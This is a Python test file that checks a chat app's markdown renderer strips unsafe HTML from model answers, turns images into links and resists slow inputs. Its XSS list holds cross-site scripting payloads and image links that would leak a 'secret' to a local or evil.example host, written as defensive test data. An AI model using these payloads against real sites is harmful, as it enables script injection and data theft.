"""Whatever a model says, the page stays ours."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.chat.blocks import render
from apps.chat.markdown import COLOURED, HIGHLIGHT_MAX_CHARS

ALLOWED = {
    "a": {"href", "title", "rel"},
    "button": {"type", "class", "data-n", "aria-label"},
    "code": {"data-language"},
    "div": {"class"},
    "ol": {"start"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
PLAIN = {"p", "br", "hr", "strong", "em", "s", "ul", "li", "blockquote", "pre", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr"}
XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](&#106;avascript:alert(1))",
    "[x](//evil.example/x)",
    "[x](/me/keys/)",
    "![x](http://127.0.0.1:59999/?d=secret)",
    "![x][1]\n\n[1]: http://127.0.0.1:59999/?d=secret",
    "<http://127.0.0.1/onmouseover='x'>",
    "<javascript:alert(1)>",
    '[x](http://a.b "\\"onmouseover=alert(1)")',
    '```"onload="alert(1)\ncode\n```',
    "```<script>\ncode\n```",
    "<style>*{background:url(http://evil)}</style>",
    "<iframe src=//evil></iframe><base href=//evil><form action=//evil><input name=x>",
    '<button type="submit" class="marker" data-n="1" onclick="x">1</button>',
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "\u202e\u0000<scr\u0000ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


class Strict(HTMLParser):
    """Fails on a tag or an attribute that no answer needs."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in PLAIN or tag in ALLOWED, tag
        assert {name for name, _ in attrs} <= ALLOWED.get(tag, set()), (tag, attrs)
        for name, value in attrs:
            assert name != "href" or re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), value


def check(html: str) -> None:
    """Fails on anything but the plain tags of an answer."""
    Strict().feed(html)


@pytest.mark.parametrize("evil", XSS)
def test_nothing_runs(evil: str) -> None:
    for text in (evil, f"before {evil} after", f"- {evil}", f"> {evil}", f"# {evil}", f"`{evil}`", f"[{evil}](http://a.b)"):
        check(render(text, (1,)))


@given(st.lists(st.sampled_from([*XSS, "\n\n", "\n", "`", "```", "[", "](", "<", "|", "1"]), max_size=8).map("".join))
def test_nothing_runs_in_any_mixture(text: str) -> None:
    check(render(text, (1,)))


def test_an_image_is_never_loaded() -> None:
    html = render("![a map](http://evil.example/?d=1)")
    assert html == '<p><a href="http://evil.example/?d=1" rel="noopener noreferrer nofollow">a map</a></p>\n'
    assert "<a" not in render("[![x](javascript:a)](javascript:b)")


def test_links_go_out_without_a_trace() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("see https://example.org/page")
    assert "<a" not in render("see example.org and me@example.org")


def test_a_marker_is_a_button() -> None:
    html = render("Six [1].", (1,))
    assert '<button type="button" class="marker" data-n="1" aria-label="Source 1">1</button>' in html.replace(" rel=", " ")


def test_a_marker_that_stands_for_nothing_goes_away() -> None:
    assert render("Six [2].", (1,)) == "<p>Six .</p>\n"


def test_a_marker_is_none_in_code_and_links() -> None:
    assert "<button" not in render("`x[1]` [see [1]](http://a.b)\n\n```\ny[1]\n```", (1,))


def test_it_renders_tables() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | ~~2~~ |")
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-right"><s>2</s></td>' in html


def test_it_colours_code() -> None:
    html = render("```python\ndef f(): ...\n```")
    assert html.startswith('<div class="code"><pre><code data-language="python"><span class="k">def</span>')


@pytest.mark.parametrize("info", ["", "no-such-language", "{.x}", "python {1}"])
def test_code_of_any_language_is_shown(info: str) -> None:
    assert "a &lt; b" in re.sub(r"</?span[^>]*>", "", render(f"```{info}\na < b\n```"))


def test_headings_stand_below_the_page_s_own() -> None:
    assert render("# a\n## b\n###### c") == "<h3>a</h3>\n<h4>b</h4>\n<h6>c</h6>\n"


@pytest.mark.parametrize(
    "unit",
    ["[", "*a ", "**a ", "`a``", ">", "[a](", "![", "- ", "_a*b", "http://", "&", "<", "~~a", "a\n", "- a\n", "|a", "://", "<http://"],
)
def test_no_text_holds_it_up(unit: str) -> None:
    begun = time.process_time()
    render((unit * 20_000)[:19_000])
    assert time.process_time() - begun < 5


@pytest.mark.parametrize("language", sorted(COLOURED))
def test_no_code_holds_it_up(language: str) -> None:
    begun = time.process_time()
    for unit in ("\n ", "a\n", "/", "a.", "@", "0", "(", "<a ", "{"):
        render(f"```{language}\n{(unit * HIGHLIGHT_MAX_CHARS)[: HIGHLIGHT_MAX_CHARS - 1]}\n```")
    assert time.process_time() - begun < 10


@pytest.mark.parametrize("language", ["gherkin", "markdown", "no-such-language"])
def test_code_of_a_language_that_few_write_is_not_coloured(language: str) -> None:
    assert render(f"```{language}\n# a `b`\n```").count("<span") == 0


def test_bare_links_are_links_where_they_are_few() -> None:
    assert "<a href" in render("See https://example.org/a.")
    assert "<a href" not in render("https://example.org " * 201)


def test_an_endless_block_is_shown_as_it_is() -> None:
    assert render("a & b " * 10_000).startswith("<pre>a &amp; b a")
